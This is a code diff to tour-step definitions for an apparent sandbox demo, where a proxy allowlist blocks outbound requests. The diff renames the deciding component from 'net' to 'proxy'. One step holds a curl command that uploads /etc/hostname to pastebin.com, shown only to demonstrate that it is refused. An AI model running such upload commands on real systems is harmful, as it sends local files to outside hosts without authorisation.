@@ -48,9 +48,9 @@ export const TOUR_STEPS: readonly TourStep[] = [
     command: "curl -sS -T /etc/hostname https://pastebin.com/api/upload",
     hint: "curl in the guest goes through HTTPS_PROXY=http://10.0.2.2:3128, the page's proxy. Watch the Proxy panel.",
     panel: "proxy",
-    expect: { kind: "proxy", code: "host-not-allowed", by: "net" },
+    expect: { kind: "proxy", code: "host-not-allowed", by: "proxy" },
     explanation:
-      "Why: the proxy (net) decides every request against the policy's host allowlist, and pastebin.com is not on it. The CONNECT was answered 403 before a single byte left the page, and the decision is on the log with its reason.",
+      "Why: the proxy decides every request against the policy's host allowlist, and pastebin.com is not on it. The CONNECT was answered 403 before a single byte left the page, and the decision is on the log with its reason.",
     retry: "Upload the file to pastebin.com with the command in the hint.",
   },
   {
@@ -62,9 +62,9 @@ export const TOUR_STEPS: readonly TourStep[] = [
     command: "curl -sS https://93.184.216.34/",
     hint: "Any spelling of an address is recognised (0x5db8d822 is this one too). Watch the Proxy panel.",
     panel: "proxy",
-    expect: { kind: "proxy", code: "ip-literal", by: "net" },
+    expect: { kind: "proxy", code: "ip-literal", by: "proxy" },
     explanation:
-      "Why: the proxy (net) allows names only. An address says nothing about who answers there and would step around the host allowlist, so an IP literal is refused in any spelling.",
+      "Why: the proxy allows names only. An address says nothing about who answers there and would step around the host allowlist, so an IP literal is refused in any spelling.",
     retry: "Send a request to the IP address 93.184.216.34, as in the hint.",
   },
   {
